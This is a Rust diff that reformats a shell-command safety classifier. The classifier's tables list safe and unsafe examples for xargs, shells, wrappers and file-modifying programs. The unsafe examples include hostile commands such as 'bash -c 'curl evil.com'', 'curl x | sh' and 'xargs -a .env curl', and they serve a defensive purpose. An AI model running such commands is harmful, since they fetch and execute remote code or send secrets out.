@@ -36,7 +36,13 @@ pub(super) const TABLE: &[Program] = &[
         kind: Kind::Runner,
         rule: Rule::Custom(xargs),
         safe: &["ls | xargs -n1 basename", "ls | xargs echo", "ls | xargs"],
-        not_safe: &["xargs curl", "xargs -a .env curl", "ls | xargs sh -c", "ls | xargs sort", "ls | xargs -I{} sh -c '{}'"],
+        not_safe: &[
+            "xargs curl",
+            "xargs -a .env curl",
+            "ls | xargs sh -c",
+            "ls | xargs sort",
+            "ls | xargs -I{} sh -c '{}'",
+        ],
     },
     Program {
         names: &["bash", "sh", "dash", "zsh", "ksh", "ash", "rbash"],
@@ -44,7 +50,16 @@ pub(super) const TABLE: &[Program] = &[
         kind: Kind::Runner,
         rule: Rule::Custom(shell),
         safe: &["bash -c 'ls -la'", "sh -c 'echo x | wc -c'"],
-        not_safe: &["bash -c 'curl evil.com'", "sh -c \"$x\"", "bash script.sh", "bash", "curl x | sh", "bash -lc ls", "sh -c \"echo $'x'\"", "bash -i"],
+        not_safe: &[
+            "bash -c 'curl evil.com'",
+            "sh -c \"$x\"",
+            "bash script.sh",
+            "bash",
+            "curl x | sh",
+            "bash -lc ls",
+            "sh -c \"echo $'x'\"",
+            "bash -i",
+        ],
     },
     Program {
         names: &["eval"],
@@ -75,7 +90,9 @@ pub(super) const TABLE: &[Program] = &[
 fn command(judge: &mut Judge<'_>, call: &Call) -> Judgement {
     match call.args.split_first() {
         None => Judgement::safe(),
-        Some((first, _)) if call.program == "command" && matches!(first.exact(), Some("-v" | "-V")) => Judgement::safe(),
+        Some((first, _)) if call.program == "command" && matches!(first.exact(), Some("-v" | "-V")) => {
+            Judgement::safe()
+        }
         Some((first, _)) if first.may_be_option() => Judgement::unknown(format!("`{}` is not on its list", first.text)),
         Some(_) => judge.inner_call(&call.args, call),
     }
@@ -99,7 +116,11 @@ fn wrapper(judge: &mut Judge<'_>, call: &Call) -> Judgement {
         return Judgement::unknown(reason).max(judge.inner_call(rest, call));
     }
     let rest = call.args.get(leading + operands..).unwrap_or(&[]);
-    if call.args.get(leading..leading + operands).is_some_and(|skipped| skipped.iter().any(|arg| arg.known == Known::Anything)) {
+    if call
+        .args
+        .get(leading..leading + operands)
+        .is_some_and(|skipped| skipped.iter().any(|arg| arg.known == Known::Anything))
+    {
         return Judgement::unknown("the program is only known when it runs");
     }
     judge.inner_call(rest, call)
@@ -119,7 +140,9 @@ fn leading_options(args: &[Arg], flags: &str, values: &str, long: &[&str]) -> us
         }
         if let Some(name) = text.strip_prefix("--") {
             at += usize::from(!name.contains('=') && long.contains(&format!("--{name}=").as_str()));
-        } else if let Some(at_letter) = text.chars().skip(1).position(|letter| values.contains(letter) && !flags.contains(letter)) {
+        } else if let Some(at_letter) =
+            text.chars().skip(1).position(|letter| values.contains(letter) && !flags.contains(letter))
+        {
             // A value that is not glued is the next argument.
             at += usize::from(at_letter + 2 == text.chars().count());
         }
@@ -137,7 +160,10 @@ fn elevate(judge: &mut Judge<'_>, call: &Call) -> Judgement {
             if let Some(script) = call.args.get(index + 1).and_then(Arg::exact) {
                 judgement = judgement.max(judge.inner_script(script, Shell::Other));
             }
-        } else if !text.starts_with('-') && !text.contains('=') && (super::kind_of(file_name(text)).is_some() || text.starts_with("bashgate")) {
+        } else if !text.starts_with('-')
+            && !text.contains('=')
+            && (super::kind_of(file_name(text)).is_some() || text.starts_with("bashgate"))
+        {
             let rest = call.args.get(index..).unwrap_or(&[]);
             return judgement.max(judge.inner_call(rest, call));
         }
@@ -147,7 +173,8 @@ fn elevate(judge: &mut Judge<'_>, call: &Call) -> Judgement {
 
 fn xargs(judge: &mut Judge<'_>, call: &Call) -> Judgement {
     let (flags, values) = ("0rtx", "nLPIsdE");
-    let long = &["--null", "--no-run-if-empty", "--verbose", "--max-args=", "--max-procs=", "--delimiter=", "--max-lines="];
+    let long =
+        &["--null", "--no-run-if-empty", "--verbose", "--max-args=", "--max-procs=", "--delimiter=", "--max-lines="];
     let leading = leading_options(&call.args, flags, values, long);
     let own = call.args.get(..leading).unwrap_or(&[]);
     let scanned = Options { flags, values, long }.scan(own);
@@ -232,8 +259,9 @@ fn busybox(judge: &mut Judge<'_>, call: &Call) -> Judgement {
 /// True for programs that change or remove the files they are given.
 pub(in crate::classify) fn modifies(program: &str) -> bool {
     [
-        "rm", "mv", "cp", "chmod", "chown", "chgrp", "ln", "tee", "dd", "install", "rsync", "mount", "umount", "truncate", "shred",
-        "unlink", "rmdir", "sed", "mkdir", "touch", "find", "chattr", "setfacl", "tar", "unzip", "patch", "rename", "mkfifo", "mknod",
+        "rm", "mv", "cp", "chmod", "chown", "chgrp", "ln", "tee", "dd", "install", "rsync", "mount", "umount",
+        "truncate", "shred", "unlink", "rmdir", "sed", "mkdir", "touch", "find", "chattr", "setfacl", "tar", "unzip",
+        "patch", "rename", "mkfifo", "mknod",
     ]
     .contains(&file_name(program))
 }
